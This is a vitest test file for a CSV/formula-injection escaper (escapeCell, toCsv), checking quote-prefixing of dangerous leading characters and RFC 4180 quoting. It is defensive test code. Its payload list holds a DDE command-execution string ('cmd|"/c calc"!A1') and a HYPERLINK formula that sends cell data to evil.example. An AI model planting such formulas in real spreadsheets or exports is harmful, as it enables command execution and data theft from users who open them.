import { describe, it, expect } from 'vitest';
import { escapeCell, toCsv } from './spreadsheet-escape.ts';

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
const PAYLOADS = [
  'cmd|"/c calc"!A1',
  'HYPERLINK("http://evil.example/?"&A1,"点我")',
  '1+1',
  'SUM(A1:A9)',
  '',
];

describe('escapeCell', () => {
  it('prefixes a quote to 100 % of strings starting with a dangerous character', () => {
    let checked = 0;
    for (const first of DANGEROUS) {
      for (const rest of PAYLOADS) {
        const value = first + rest;
        expect(escapeCell(value)).toBe(`'${value}`);
        checked++;
      }
    }
    expect(checked).toBe(DANGEROUS.length * PAYLOADS.length);
  });

  it('leaves every other first character alone, checked across all of ASCII', () => {
    for (let code = 0; code < 128; code++) {
      const value = `${String.fromCharCode(code)}abc`;
      const expected = DANGEROUS.includes(String.fromCharCode(code)) ? `'${value}` : value;
      expect(escapeCell(value)).toBe(expected);
    }
  });

  it('only looks at the first character', () => {
    expect(escapeCell('张三=李四')).toBe('张三=李四');
    expect(escapeCell('a-b')).toBe('a-b');
    expect(escapeCell("'=already")).toBe("'=already");
  });

  it('passes finite numbers and bigints through unchanged, negative ones included', () => {
    expect(escapeCell(-5)).toBe(-5);
    expect(escapeCell(0)).toBe(0);
    expect(escapeCell(3.25)).toBe(3.25);
    expect(escapeCell(-12345678901234567890n)).toBe('-12345678901234567890');
  });

  it('escapes strings that look like numbers, such as phone numbers with a plus', () => {
    expect(escapeCell('-5')).toBe("'-5");
    expect(escapeCell('+8613800138000')).toBe("'+8613800138000");
  });

  it('converts other types safely', () => {
    expect(escapeCell(null)).toBe('');
    expect(escapeCell(undefined)).toBe('');
    expect(escapeCell(true)).toBe('TRUE');
    expect(escapeCell(false)).toBe('FALSE');
    expect(escapeCell(new Date('2025-01-02T03:04:05Z'))).toBe('2025-01-02T03:04:05.000Z');
    expect(escapeCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(escapeCell(Number.NaN)).toBe('NaN');
    expect(escapeCell({ toString: () => '=evil()' })).toBe("'=evil()");
  });
});

describe('toCsv', () => {
  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    const csv = toCsv([
      ['姓名', '学号'],
      ['张三', 1001],
    ]);
    expect(csv).toBe('\uFEFF姓名,学号\r\n张三,1001\r\n');
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('quotes fields with commas, quotes and line breaks as RFC 4180 says', () => {
    expect(toCsv([['a,b', 'say "hi"', 'line1\nline2', 'cr\rhere', 'plain']])).toBe(
      '\uFEFF"a,b","say ""hi""","line1\nline2","cr\rhere",plain\r\n',
    );
  });

  it('escapes dangerous cells before quoting them', () => {
    expect(toCsv([['=HYPERLINK("http://evil","x")', '\tTAB', '@SUM(1,2)', -7]])).toBe(
      '\uFEFF"\'=HYPERLINK(""http://evil"",""x"")",\'\tTAB,"\'@SUM(1,2)",-7\r\n',
    );
  });

  it('writes empty cells and empty input', () => {
    expect(toCsv([[null, undefined, '']])).toBe('\uFEFF,,\r\n');
    expect(toCsv([])).toBe('\uFEFF');
  });

  it('leaves no cell of a hostile export starting with a dangerous character', () => {
    const rows = DANGEROUS.map((first) => [`${first}1+1`, 'ok']);
    const lines = toCsv(rows).slice(1).split('\r\n').filter(Boolean);
    for (const line of lines) {
      const firstField = line.startsWith('"') ? line.slice(1) : line;
      expect(firstField.startsWith("'")).toBe(true);
    }
  });
});
